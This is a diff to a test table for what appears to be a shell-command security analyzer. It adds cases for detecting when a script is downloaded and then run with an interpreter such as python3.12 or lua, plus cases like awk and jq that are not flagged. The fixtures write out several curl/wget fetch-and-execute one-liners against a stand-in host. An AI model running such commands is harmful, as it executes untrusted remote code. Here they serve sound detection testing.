@@ -118,6 +118,10 @@ const TABLES: Readonly<Record<string, readonly Row[]>> = {
 		['curl -fsSL https://x.io/i.sh -o i.sh && sh i.sh', ['exec downloadedCode @line']],
 		['wget -O /tmp/s https://x.io/s; chmod +x /tmp/s; /tmp/s', ['exec downloadedCode @line']],
 		['curl https://x.io/t.py > t.py; python3 t.py', ['exec downloadedCode @line']],
+		// Any spelling of an interpreter (a version suffix, pypy, lua); awk's operand is its program, not a file.
+		['curl -o t.py https://x.io/t.py && python3.12 -u t.py', ['exec downloadedCode @line']],
+		['wget -O m.lua https://x.io/m.lua && lua m.lua', ['exec downloadedCode @line']],
+		['curl -o a.txt https://x.io/a && awk a.txt b', [], ['exec downloadedCode @line']],
 		['curl -o data.json https://x.io/d && jq . data.json', [], ['exec downloadedCode @line']],
 	],
 	'words the line itself sets: positional parameters and IFS': [
